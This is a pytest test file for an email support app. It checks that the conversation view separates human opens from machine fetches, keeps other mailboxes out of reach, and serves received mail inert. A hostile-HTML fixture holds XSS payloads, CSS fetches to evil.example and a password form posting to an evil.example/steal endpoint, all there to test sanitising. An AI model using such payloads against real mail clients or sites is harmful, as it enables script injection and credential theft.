"""The conversation view and the message body document, through the real pages, asserting on
parsed HTML: messages in order with the eye, views and machine fetches apart, hostile mail
made harmless, our own pixels kept out, and other mailboxes out of reach."""

from __future__ import annotations

import asyncio
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage

import pytest
from bs4 import BeautifulSoup

from mailseen.core.compose import Attachment, Draft
from mailseen.records import Judged, MailboxIn, MailboxRecord, MessageRecord, ViewIn
from mailseen.services.inbound import Ingestor
from mailseen.services.instance import Instance
from mailseen.web.site.mailhtml import defuse_css, linkify, sanitize
from mailseen.web.site.ui_conversation import short_agent

from .conftest import stored_as_sent_before_copies
from .web_client import PASSWORD, WebClient

HOSTILE = """<html><head><title>Win</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.gif) }
</style></head><body onload="alert(1)">
<p onclick="alert(2)" style="color: red; background-image: url(https://evil.example/c.gif)">Hi</p>
<script>alert(3)</script>
<a href="javascript:alert(4)">click</a> <a href="https://good.example/x">good link</a>
<svg onload="alert(5)"><script>alert(6)</script><text>svg text</text></svg>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<iframe srcdoc="<script>alert(7)</script>"></iframe>
<img src="https://images.example/logo.png" alt="Logo" onerror="alert(8)">
<img src="x" onerror="alert(9)">
<object data="https://evil.example/x.swf"></object>
<a href="data:text/html,<script>alert(10)</script>">data link</a>
</body></html>"""



def _mailbox(instance: Instance, address: str = "support@example.com",
             tracking: str = "enabled") -> MailboxRecord:
    return instance.store.add_mailbox(MailboxIn(address=address, display_name="Support",
                                                tracking=tracking))  # type: ignore[arg-type]


def _user(instance: Instance, web: WebClient, role: str = "admin",
          boxes: tuple[MailboxRecord, ...] = ()) -> None:
    email = f"{role}@example.com"
    user = instance.accounts.create_user(email, PASSWORD, role=role)  # type: ignore[arg-type]
    instance.store.set_memberships(user.id, [b.id for b in boxes])
    web.sign_in(email)


def _send(instance: Instance, box: MailboxRecord, html: str | None = "<p>Hello there</p>",
          text: str | None = "Hello there", subject: str = "Your ticket",
          **extra: object) -> MessageRecord:
    draft = Draft(from_addr=box.address, to=["customer@example.org"], subject=subject,
                  text=text, html=html, **extra)  # type: ignore[arg-type]
    sent = instance.sender.send_draft(box, draft)
    asyncio.run(instance.worker().drain())  # delivered: the eye tells views, not delivery
    return instance.store.get_message(sent.id)


def _receive(instance: Instance, box: MailboxRecord, *, html: str | None = None,
             text: str = "Thanks!", reply_to: MessageRecord | None = None,
             subject: str = "Re: Your ticket", sender: str = "customer@example.org"
             ) -> MessageRecord:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = box.address
    msg["Subject"] = subject
    msg["Message-ID"] = f"<{datetime.now(UTC).timestamp()}.{len(text)}@example.org>"
    if reply_to is not None:
        msg["In-Reply-To"] = reply_to.message_id
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    return Ingestor(instance.store, instance.sender).ingest(box, msg.as_bytes(), "imap").message


def _view(message: MessageRecord, at: datetime, ua: str, ip: str = "198.51.100.7") -> ViewIn:
    return ViewIn(message_id=message.id, recipient=0, at=at, method="GET", ip=ip,
                  user_agent=ua, headers={"user-agent": ua})


def _body(web: WebClient, message_id: int, images: int = 0) -> tuple[object, BeautifulSoup]:
    resp = web.client.get(f"/messages/{message_id}/body?images={images}")
    assert resp.status_code == 200
    return resp, BeautifulSoup(resp.text, "html.parser")


# -- the page ---------------------------------------------------------------------------

def test_all_messages_in_order_with_the_eye_on_those_sent(web: WebClient,
                                                          instance: Instance) -> None:
    box = _mailbox(instance)
    first = _send(instance, box)
    answer = _receive(instance, box, reply_to=first, text="Thanks, see https://x.example/a.")
    second = _send(instance, box, subject="Re: Your ticket", in_reply_to=answer.message_id)
    assert first.conversation_id == answer.conversation_id == second.conversation_id
    _user(instance, web)

    page = web.get(f"/conversations/{first.conversation_id}")
    assert page.status == 200
    assert page.text("h1") == "Your ticket"
    articles = page.all("article.msg")
    assert [a["id"] for a in articles] == [f"message-{m.id}" for m in (first, answer, second)]
    assert [a.get("data-message-id") for a in articles] == [str(first.id), None, str(second.id)]
    assert "Sent" in articles[0].h2.text and "Received" in articles[1].h2.text
    # The eye, as in the listing, where the live updates find it: the reply proves the
    # first was seen; the second waits.
    assert articles[0].select_one(".status")["data-kind"] == "viewed"
    assert articles[0].select_one(".status-text").text.startswith("Replied")
    status = articles[2].select_one(".status")
    assert status["data-kind"] == "waiting"
    assert status.select_one("svg")["aria-label"] == "Sent, not viewed yet"
    assert articles[1].select_one(".status") is None
    # Plain text shown as text with its link made clickable, without the full stop.
    assert articles[1].select_one("pre.plain a")["href"] == "https://x.example/a"
    # The page follows its conversation live (tests/test_web_live.py).
    live = page.soup.select_one("[data-live]")
    assert live["data-live"] == f"conversation:{first.conversation_id}"
    assert live["data-live-cursor"]


def test_views_by_people_and_machine_fetches_are_shown_apart(web: WebClient,
                                                             instance: Instance) -> None:
    box = _mailbox(instance)
    sent = _send(instance, box)
    t0 = datetime.now(UTC) - timedelta(hours=3)
    chrome = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
              "Gecko) Chrome/120.0.0.0 Safari/537.36")
    verdicts = {
        "Outlook": Judged("human", "opened in Outlook 16 on Windows", "Outlook 16 on Windows"),
        "GoogleImageProxy": Judged("human", "opened in Gmail (image proxy)",
                                   "Gmail (image proxy)"),
        "Barracuda": Judged("machine", "security scanner", "Barracuda"),
        chrome: Judged("human", "opened in a browser (webmail)", ""),
    }
    instance.store.record_views(
        [_view(sent, t0 + timedelta(minutes=n), ua) for n, ua in enumerate(verdicts)],
        list(verdicts.values()))
    _user(instance, web)

    page = web.get(f"/conversations/{sent.conversation_id}")
    article = page.soup.select_one(f'[data-message-id="{sent.id}"]')
    assert article.select_one(".status")["data-kind"] == "viewed"
    assert article.select_one(".views-human .count").text == "3"
    assert article.select_one(".views-machine .count").text == "1"
    events = article.select(".timeline .event")
    assert [e.select_one(".client").text for e in events] == [
        "Outlook 16 on Windows", "Gmail (image proxy)", "Barracuda", "Chrome 120 on Windows"]
    assert [e.select_one(".verdict").text for e in events] == [
        "Viewed", "Viewed", "Automated fetch", "Viewed"]
    assert events[2].select_one(".reason").text == "security scanner"
    assert "event-machine" in events[2]["class"]
    assert events[0].select_one(".ip").text == "IP 198.51.100.7"  # admins see addresses


def test_members_do_not_see_client_addresses(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance)
    sent = _send(instance, box)
    instance.store.record_views([_view(sent, datetime.now(UTC), "Thunderbird/115.0")])
    _user(instance, web, "member", (box,))
    page = web.get(f"/conversations/{sent.conversation_id}")
    [event] = page.all(".timeline .event")
    assert event.select_one(".client").text == "Thunderbird 115"
    assert event.select_one(".ip") is None
    assert "198.51.100.7" not in page.response.text


def test_untracked_messages_say_why(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance, tracking="disabled")
    sent = _send(instance, box)
    _user(instance, web)
    page = web.get(f"/conversations/{sent.conversation_id}")
    assert page.text(".tracking-off") == "Disabled by mailbox setting."
    assert page.soup.select_one(".status")["data-kind"] == "untracked"


def test_other_mailboxes_are_404_whatever_the_url(web: WebClient, instance: Instance) -> None:
    mine, theirs = _mailbox(instance), _mailbox(instance, "sales@example.com")
    hidden = _send(instance, theirs, attachments=[Attachment("a.txt", "text/plain", b"x")])
    _user(instance, web, "member", (mine,))
    for url in (f"/conversations/{hidden.conversation_id}", f"/messages/{hidden.id}/body",
                f"/messages/{hidden.id}/body?images=1", f"/messages/{hidden.id}/attachments/2",
                "/conversations/999999", "/messages/999999/body"):
        resp = web.client.get(url)
        assert resp.status_code == 404, url
        assert "Your ticket" not in resp.text


def test_pages_need_a_signed_in_user(web: WebClient, instance: Instance) -> None:
    sent = _send(instance, _mailbox(instance))
    instance.accounts.create_user("admin@example.com", PASSWORD, role="admin")
    for url in (f"/conversations/{sent.conversation_id}", f"/messages/{sent.id}/body"):
        assert web.get(url).response.url.path == "/login"


# -- the body document -------------------------------------------------------------------

def test_hostile_html_is_served_inert_in_a_sandbox(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance)
    bad = _receive(instance, box, html=HOSTILE, subject="Prize")
    _user(instance, web)

    page = web.get(f"/conversations/{bad.conversation_id}")
    frame = page.soup.select_one("iframe.mail-frame")
    assert frame["sandbox"] == ["allow-popups", "allow-popups-to-escape-sandbox"]
    assert frame["src"] == f"/messages/{bad.id}/body?images=0"
    assert page.text(".images-note").startswith("1 remote image blocked.")

    resp, doc = _body(web, bad.id)
    csp = resp.headers["content-security-policy"]  # type: ignore[attr-defined]
    assert "default-src 'none'" in csp and "sandbox" in csp and "script-src" not in csp
    assert "img-src data: cid:;" in csp  # nothing remote
    assert resp.headers["x-frame-options"] == "SAMEORIGIN"  # type: ignore[attr-defined]
    body = doc.body
    for tag in ("script", "svg", "form", "input", "iframe", "object", "meta[http-equiv]",
                "title"):
        assert body.select(tag) == [], tag
    assert [a.get("href") for a in body.select("a")] == [None, "https://good.example/x", None]
    assert all(not k.startswith("on") for el in doc.find_all(True) for k in el.attrs)
    assert [img.get("src") for img in body.select("img")] == [None, None]
    # CSS that would fetch is renamed, so the browser drops it as invalid.
    assert "url(" not in str(body).lower() and "@import" not in str(body)
    assert body.select_one("a[href]")["target"] == "_blank"
    assert "noopener" in body.select_one("a[href]")["rel"]


def test_remote_images_only_when_asked(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance)
    msg = _receive(instance, box, html=HOSTILE)
    _user(instance, web)
    page = web.get(f"/conversations/{msg.conversation_id}?images={msg.id}")
    assert page.soup.select_one("iframe.mail-frame")["src"].endswith("?images=1")
    assert page.soup.select_one(".images-note") is None
    resp, doc = _body(web, msg.id, images=1)
    # Each image left in the body by its exact URL, nothing else remote.
    assert "img-src data: cid: https://images.example/logo.png;" in \
        resp.headers["content-security-policy"]  # type: ignore[attr-defined]
    assert [img.get("src") for img in doc.body.select("img")] == [
        "https://images.example/logo.png", None]


def test_our_own_pixel_never_reaches_the_reader(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance)
    sent = _send(instance, box, html="<p>Hello</p><img src='https://images.example/a.png'>")
    assert sent.tracked
    stored_as_sent_before_copies(instance, sent)
    _user(instance, web)
    for images in (0, 1):
        resp, doc = _body(web, sent.id, images)
        assert "/t/" not in resp.text  # type: ignore[attr-defined]
    assert [i["src"] for i in doc.select("img")] == ["https://images.example/a.png"]


def test_inline_images_are_shown_from_the_message(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance)
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@example.org", box.address, "Logo"
    msg["Message-ID"] = "<inline@example.org>"
    msg.set_content("text")
    msg.add_alternative('<p><img src="cid:logo@x" alt="logo"></p>', subtype="html")
    msg.get_payload()[1].add_related(b"GIF89a-not-really", "image", "gif", cid="<logo@x>")
    got = Ingestor(instance.store, instance.sender).ingest(box, msg.as_bytes(), "smtp").message
    _user(instance, web)
    _, doc = _body(web, got.id)
    assert doc.select_one("img")["src"].startswith("data:image/gif;base64,")
    page = web.get(f"/conversations/{got.conversation_id}")
    assert page.all(".attachments li") == []  # shown in place, not listed


def test_plain_text_mail_is_escaped_and_linkified(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance)
    msg = _receive(instance, box, text="<script>alert(1)</script>\nhttps://x.example/?a=1&b=2")
    _user(instance, web)
    page = web.get(f"/conversations/{msg.conversation_id}")
    pre = page.soup.select_one("pre.plain")
    assert pre.select("script") == []
    assert "<script>alert(1)</script>" in pre.text
    assert pre.select_one("a")["href"] == "https://x.example/?a=1&b=2"
    assert pre.select_one("a")["rel"] == ["noopener", "noreferrer", "nofollow"]


def test_attachments_download_and_nothing_else_does(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance)
    sent = _send(instance, box, attachments=[
        Attachment("report <1>.html", "text/html", b"<script>alert(1)</script>")])
    _user(instance, web)
    page = web.get(f"/conversations/{sent.conversation_id}")
    [link] = page.soup.select(".attachments a")
    assert link.text == "report <1>.html"
    resp = web.client.get(link["href"])
    assert resp.status_code == 200
    assert resp.content == b"<script>alert(1)</script>"
    assert resp.headers["content-type"] == "application/octet-stream"
    assert resp.headers["content-disposition"].startswith('attachment; filename="report__1_.html"')
    # Nothing else downloads: the HTML body part, with our pixel in it, least of all.
    listed = int(link["href"].rsplit("/", 1)[1])
    for index in set(range(6)) - {listed}:
        assert web.client.get(f"/messages/{sent.id}/attachments/{index}").status_code == 404


# -- the pieces -------------------------------------------------------------------------

def test_sanitize_keeps_layout_and_drops_what_runs_or_fetches() -> None:
    out = sanitize('<table bgcolor="#fff"><tr><td style="padding:4px;color:#333" '
                   'onmouseover="x()">Hi</td></tr></table><font color="red">R</font>',
                   is_own_pixel=lambda url: False)
    assert out.html == ('<table bgcolor="#fff"><tbody><tr><td style="padding:4px;color:#333">'
                        'Hi</td></tr></tbody></table><font color="red">R</font>')
    assert out.blocked_images == 0


def test_css_cannot_fetch_even_when_escaped() -> None:
    for css in ("background:url(https://e.example/x)", "background:\\75 rl(https://e.example)",
                "background-image:image-set('https://e.example/x' 1x)", "@import 'x.css'",
                "background: URL ( 'https://e.example' )"):
        out = defuse_css(css)
        assert "url(" not in out.lower().replace(" ", "") and "image-set(" not in out
        assert "@import" not in out


def test_style_blocks_with_attributes_are_defused_too() -> None:
    for block in ('<style class="a">p{background:url(https://e.example/x)}</style>',
                  "<style title=t>p{background:\\75 rl(https://e.example/x)}</style>"):
        out = sanitize(f"{block}<p>x</p>", images=True, is_own_pixel=lambda url: False).html
        assert "url(" not in out.lower() and "<style" in out, out


def test_own_pixels_are_dropped_even_percent_encoded() -> None:
    def ours(url: str) -> bool:
        return "/t/ours.gif" in url

    out = sanitize('<img src="https://m.example/%74/ours.gif"><img src="https://m.example/t/ours'
                   '.gif?x"><img src="https://e.example/a.png">', images=True, is_own_pixel=ours)
    assert out.html == '<img><img><img src="https://e.example/a.png">'


def test_linkify_leaves_punctuation_out_of_links() -> None:
    html = str(linkify("See (https://x.example/a_(b)), or https://y.example/c. <b>"))
    soup = BeautifulSoup(html, "html.parser")
    assert [a["href"] for a in soup.select("a")] == ["https://x.example/a_(b)",
                                                      "https://y.example/c"]
    assert soup.select("b") == [] and soup.text.endswith("<b>")


@pytest.mark.parametrize(("ua", "words"), [
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/17.0 Mobile/15E148 Safari/604.1", "Safari 17 on iPhone"),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
     "Firefox 120 on Linux"),
    ("curl/8.4.0", "curl 8"),
    ("", "no user agent"),
    ("Mozilla/5.0 " + "x" * 80, "Mozilla/5.0 " + "x" * 27 + "…"),
])
def test_user_agents_in_a_few_words(ua: str, words: str) -> None:
    assert short_agent(ua) == words


def test_broken_mail_still_shows(web: WebClient, instance: Instance) -> None:
    box = _mailbox(instance)
    raw = (b"From: a@example.org\r\nTo: support@example.com\r\nSubject: Odd\r\n"
           b"Message-ID: <odd@example.org>\r\nMIME-Version: 1.0\r\n"
           b'Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\n'
           b"Content-Type: text/html; charset=x-no-such-charset\r\n"
           b"Content-Transfer-Encoding: base64\r\n\r\nPHA+SGVsbG8gd29ybGQ8L3A+=garbage\r\n")
    got = Ingestor(instance.store, instance.sender).ingest(box, raw, "smtp").message
    _user(instance, web)
    assert web.get(f"/conversations/{got.conversation_id}").status == 200
    _, doc = _body(web, got.id)
    assert "Hello world" in doc.text


def test_an_out_of_office_is_threaded_and_labelled_automatic(instance: Instance,
                                                            web: WebClient) -> None:
    box = _mailbox(instance)
    _user(instance, web)
    sent = _send(instance, box)
    oof = (f"From: customer@example.org\r\nTo: {box.address}\r\n"
           f"Subject: Automatic reply: Your ticket\r\nMessage-ID: <oof@example.org>\r\n"
           f"In-Reply-To: {sent.message_id}\r\nAuto-Submitted: auto-replied\r\n\r\n"
           "I am out of the office until Monday.\r\n").encode()
    got = Ingestor(instance.store, instance.sender).ingest(box, oof, "imap").message
    assert got.conversation_id == sent.conversation_id
    page = web.get(f"/conversations/{sent.conversation_id}")
    label = page.soup.select_one("dt.automatic")
    assert label is not None and label.get_text() == "Automatic reply"
    assert "Auto-Submitted" in label.find_next("dd").get_text()
    assert not instance.store.get_message(sent.id).viewed
